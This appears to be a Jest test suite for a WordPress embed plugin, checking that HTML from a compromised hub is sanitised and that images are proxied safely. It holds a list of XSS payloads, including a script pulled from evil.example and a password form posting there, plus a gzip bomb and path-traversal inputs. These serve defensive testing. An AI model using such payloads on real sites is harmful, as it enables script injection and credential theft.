/** @jest-environment ./tests/unit/embed/environment.mjs */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { gzipSync } from 'node:zlib'
import { documentOf } from './document.ts'
import { block, pageOf, post, set } from './posts.ts'
import { fragment, startStandIn } from './standIn.ts'
import type { StandIn } from './standIn.ts'
import { startSite } from './site.ts'
import type { Site } from './site.ts'

// A hub that somebody has taken over: it may write other words on the portal, and run nothing there.

let hub: StandIn
let site: Site
let id: number

beforeAll(async () => {
  hub = await startStandIn()
  site = await startSite({ constants: { HANSA_HUB: hub.url } })
  await set(site, { test_hansa_fresh_seconds: 0, test_hansa_pause_seconds: 0 })
  id = await post(site, `${block({ lang: 'sq' })}<!-- wp:html --><p id="after">after</p><!-- /wp:html -->`)
})
afterAll(async () => {
  await site.close()
  await hub.close()
})
beforeEach(() => {
  hub.asked.length = 0
})

/** The block on the page, and what stands behind it. */
async function drawn(): Promise<{ list: Element; after: Element | null; html: string }> {
  const { status, html } = await pageOf(site, id)
  expect(status).toBe(200)
  const document = documentOf(html)
  const list = document.querySelector('.wp-block-hansa-list')
  if (!list) throw new Error(`no block in ${html}`)
  return { list, after: document.querySelector('#after'), html }
}

describe('markup', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<p>x</p><script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="position:fixed;inset:0">over all</p>',
    '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<details ontoggle=alert(1) open><summary>a</summary></details>',
    '<p id="wpadminbar" name="cookie">clobbers</p>',
    '<!--[if IE]><script>alert(1)</script><![endif]--><p><!-- --!><script>alert(1)</script></p>',
    '<a href="https://hub.example.org" onclick="alert(1)" target="_top" ping="https://evil.example">a</a>',
    '<source srcset="https://evil.example/x.png 1x"><img srcset="https://evil.example/x.png 1x" src="//evil.example/x.png" alt="a">',
  ]
  const elements = new Set(
    'A ABBR ADDRESS ARTICLE B BDI BLOCKQUOTE BR CAPTION DD DEL DETAILS DIV DL DT EM FIGCAPTION FIGURE FOOTER H2 H3 H4 H5 H6 HEADER HR I IMG INS LI OL P PICTURE Q S SECTION SMALL SOURCE SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TIME TR U UL'.split(
      ' ',
    ),
  )

  it.each(attacks)('runs nothing: %s', async (attack) => {
    hub.answer(fragment(`<div class="hansa-list"><p>before</p>${attack}<p>behind</p></div>`))
    const { list } = await drawn()
    expect(list.textContent).toMatch(/before/)
    const all = [...list.querySelectorAll('*')]
    expect(all.map(({ tagName }) => tagName).filter((name) => !elements.has(name))).toEqual([])
    const attributes = all.flatMap((one) => [...one.attributes].map(({ name, value }) => ({ name, value })))
    expect(attributes.filter(({ name }) => /^(on|style$|id$|name$|target$|ping$)/.test(name))).toEqual([])
    const addresses = attributes.filter(({ name }) => ['href', 'src', 'srcset'].includes(name))
    const origins = addresses.map(({ value }) => new URL(value, site.url).origin)
    expect(origins.filter((origin) => ![site.url, 'https://hub.example.org'].includes(origin))).toEqual([])
    expect(list.innerHTML).not.toContain('evil.example/x')
  })

  it('keeps its place: it closes nothing that it has not opened', async () => {
    hub.answer(fragment('</div></div></main></div><p>out</p><div><div><section><p>open'))
    const { list, after } = await drawn()
    expect(list.textContent).toContain('open')
    expect(after?.textContent).toBe('after')
    expect(list.contains(after)).toBe(false)
    expect(list.parentElement).toBe(after?.parentElement)
  })

  it.each(['<!-- to myself -->', '<!-- wp:html -->', '<!-- to -- myself --!>', '<!-- to the end'])(
    'shows no comment: %s',
    async (comment) => {
      hub.answer(fragment(`<div class="hansa-list"><p>before</p>${comment}</div>`))
      const { list } = await drawn()
      expect(list.innerHTML).toBe('<div class="hansa-list"><p>before</p></div>')
    },
  )

  it.each(['[', '&#91;', '&#091;', '&#x5b;'])('runs no shortcode of the portal (%s)', async (bracket) => {
    hub.answer(
      fragment(
        `<div class="hansa-list"><p title="${bracket}hansa kind=news]">${bracket}hansa kind=meetings] ${bracket}wp_caption width=1 caption=a]b[/wp_caption]</p></div>`,
      ),
    )
    const { list } = await drawn()
    expect(list.textContent).toBe('[hansa kind=meetings] [wp_caption width=1 caption=a]b[/wp_caption]')
    expect(list.querySelector('p')?.title).toBe('[hansa kind=news]')
    expect(hub.asked).toHaveLength(1)
  })

  it('keeps what the lists of the hub are made of', async () => {
    const good = `<div class="hansa-list" lang="ar" dir="rtl"><section class="hansa-section" aria-label="الأخبار"><article lang="sq" dir="ltr"><h4><a href="https://hub.example.org/sq/a" hreflang="sq">Titulli</a></h4><p><time datetime="2026-07-28">28 korrik</time></p><p role="note">Përkthim</p></article></section></div>`
    hub.answer(fragment(good))
    expect((await drawn()).list.innerHTML).toBe(good)
  })
})

describe('an answer', () => {
  it.each([
    ['too large', 'text/html', 'x'.repeat(1_100_000)],
    ['no markup', 'application/json', '{"html":"<p>before</p>"}'],
  ])('that is %s is not shown', async (_name, type, body) => {
    await site.php(`Hansa_Copies::forget_all();`)
    hub.answer((_req, res) => res.writeHead(200, { 'content-type': type }).end(body))
    const { list } = await drawn()
    expect(list.querySelector('.hansa-fallback a')?.textContent).toBe('Hape në portalin e rrjetit')
  })

  it('that unpacks to more than anybody can hold breaks no page', async () => {
    await site.php(`Hansa_Copies::forget_all();`)
    const bomb = gzipSync(Buffer.alloc(400_000_000, 'a'))
    hub.answer((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' }).end(bomb),
    )
    const { list } = await drawn()
    expect(list.querySelector('.hansa-fallback')?.textContent).toBe('Hape në portalin e rrjetit')
  })
})

describe('pictures', () => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  )
  const withPicture = () =>
    fragment(
      `<div class="hansa-list"><picture><source type="image/webp" srcset="${hub.url}/media/a-320.webp 320w, ${hub.url}/media/a-640.webp 640w"><img src="${hub.url}/media/a.png" alt="Kalaja" width="4" height="3" loading="lazy"></picture></div>`,
    )
  /** Shows a list with pictures, and lets the hub answer for them. */
  async function shown(listener: Parameters<StandIn['answer']>[0]): Promise<string> {
    await site.php(
      `Hansa_Copies::forget_all(); array_map( 'unlink', glob( wp_get_upload_dir()['basedir'] . '/hansa/*' ) );`,
    )
    hub.answer((req, res) => (req.url?.startsWith('/v1/') ? withPicture() : listener)(req, res))
    const { list } = await drawn()
    hub.asked.length = 0
    return list.querySelector('img')?.src ?? ''
  }

  it('come from the portal, in every size, and the hub hears of no visitor', async () => {
    const source = await shown((_req, res) => res.writeHead(200, { 'content-type': 'image/png' }).end(png))
    const { list } = await drawn()
    const sizes = list.querySelector('source')?.srcset.split(', ') ?? []
    expect(sizes.map((size) => size.split(' ')[1])).toEqual(['320w', '640w'])
    for (const size of [source, ...sizes]) expect(size.startsWith(`${site.url}/?hansa-picture=`)).toBe(true)
    expect(list.innerHTML).not.toContain(hub.url)
    hub.asked.length = 0
    for (const times of [1, 1]) {
      const answer = await fetch(source, { headers: { 'user-agent': 'Visitor/1', 'accept-language': 'xx' } })
      expect(answer.status).toBe(200)
      expect(answer.headers.get('content-type')).toBe('image/png')
      expect(answer.headers.get('content-security-policy')).toContain('sandbox')
      expect(Buffer.from(await answer.arrayBuffer()).toString('hex')).toBe(png.toString('hex'))
      expect(hub.asked).toHaveLength(times)
    }
    expect(hub.asked[0]?.target).toBe('/media/a.png')
    expect(JSON.stringify(hub.asked)).not.toMatch(/Visitor|xx/)
  })

  it('are shown while the hub is down', async () => {
    const source = await shown((_req, res) => res.writeHead(200, { 'content-type': 'image/png' }).end(png))
    await fetch(source)
    await site.php(
      `foreach ( glob( wp_get_upload_dir()['basedir'] . '/hansa/*' ) as $file ) { touch( $file, time() - 7200 ); }`,
    )
    hub.answer((req) => req.socket.destroy())
    expect((await fetch(source)).status).toBe(200)
    expect(hub.asked).toHaveLength(2)
  })

  it('are gone when they are withdrawn', async () => {
    const source = await shown((_req, res) => res.writeHead(200, { 'content-type': 'image/png' }).end(png))
    await fetch(source)
    await site.php(
      `foreach ( glob( wp_get_upload_dir()['basedir'] . '/hansa/*' ) as $file ) { touch( $file, time() - 7200 ); }`,
    )
    hub.answer((_req, res) => res.writeHead(404).end())
    expect((await fetch(source)).status).toBe(404)
    hub.answer((req) => req.socket.destroy())
    expect((await fetch(source)).status).toBe(404)
  })

  it('are fetched only if a list showed them', async () => {
    const source = await shown((_req, res) => res.writeHead(200, { 'content-type': 'image/png' }).end(png))
    for (const path of ['/media/b.png', '/v1/news.json', '/media/../v1/news.json', '//evil.example/a.png']) {
      const other = new URL(source)
      other.searchParams.set('hansa-picture', path)
      expect((await fetch(other)).status).toBe(404)
    }
    expect(hub.asked).toEqual([])
  })

  it('are nothing else', async () => {
    const source = await shown((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<script>alert(1)</script>'),
    )
    expect((await fetch(source)).status).toBe(404)
  })
})

it('lets no author write markup by the words of a list', async () => {
  const written = await post(
    site,
    `[hansa kind="news" label="<script>alert(1)</script>" lang='"><img src=x onerror=alert(1)>' municipality="&quot;onmouseover=alert(1)"]`,
  )
  hub.answer((_req, res) => res.writeHead(404).end())
  const { html } = await pageOf(site, written)
  expect(html).toContain('hansa-fallback')
  expect(documentOf(html).querySelector('[onerror], [onmouseover]')).toBeNull()
  expect(html).not.toContain('<script>alert(1)')
})
